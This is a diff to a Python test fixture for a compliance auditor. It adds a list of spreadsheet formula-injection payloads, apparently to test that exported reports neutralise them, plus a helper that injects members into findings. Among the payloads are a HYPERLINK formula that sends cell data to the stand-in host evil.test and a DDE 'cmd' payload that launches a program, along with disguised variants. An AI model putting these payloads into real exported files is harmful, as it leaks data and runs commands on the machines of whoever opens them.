@@ -6,6 +6,7 @@ from __future__ import annotations
 import datetime
 import hashlib
 from collections.abc import Iterable
+from itertools import cycle
 from typing import Any
 
 from auditor.controls import Catalogue, Control
@@ -42,6 +43,32 @@ NASTY: tuple[str, ...] = (
     "/" + "a" * 5000,
 )
 """What a hostile host may send anywhere."""
+
+FORMULAS: tuple[str, ...] = (
+    "=1+1",
+    "+1+1",
+    "-1+1",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+    "  =1+1",
+    "\u00a0=1+1",
+    "＝1+1",
+    "＋1+1",
+    "－1+1",
+    "＠SUM(1+1)",
+    "−1+1",
+    '"=1+1',
+    "'=1+1",
+    '=HYPERLINK("http://evil.test/?"&A1,"x")',
+    "=cmd|'/C calc'!A0",
+    "x;=1+1",
+    'x;""=1+1',
+    "x\n=1+1",
+    "{=1+1}",
+    "http://evil.test/",
+)
+"""What a spreadsheet would calculate, run or open, were it put into a cell as it is."""
 
 # fmt: off
 # id, subject, severity, title vi, title en
@@ -310,6 +337,15 @@ def run(
     )
 
 
+def run_with_members(members: Iterable[Any]) -> Run:
+    """A run whose open findings have one violating member each, taken in turn from ``members``."""
+    ordinary, turn = run(), cycle(members)
+    findings = (
+        f.model_copy(update={"violations": (next(turn),)}) if f.status.is_open else f for f in ordinary.findings
+    )
+    return ordinary.model_copy(update={"findings": tuple(findings)})
+
+
 def _finding(
     control: Control, subject: Subject, host: str, hardened: bool, clean: bool, down: bool, nasty: tuple[str, ...]
 ) -> Finding:
@@ -424,4 +460,15 @@ def _violations(control: Control, subject: Subject, nasty: tuple[str, ...]) -> t
     return tuple(members.get(control.id, []) + hostile)
 
 
-__all__ = ["DAY", "HOSTS", "NASTY", "NOW", "ORGANISATION", "STARTED", "catalogue", "run"]
+__all__ = [
+    "DAY",
+    "FORMULAS",
+    "HOSTS",
+    "NASTY",
+    "NOW",
+    "ORGANISATION",
+    "STARTED",
+    "catalogue",
+    "run",
+    "run_with_members",
+]
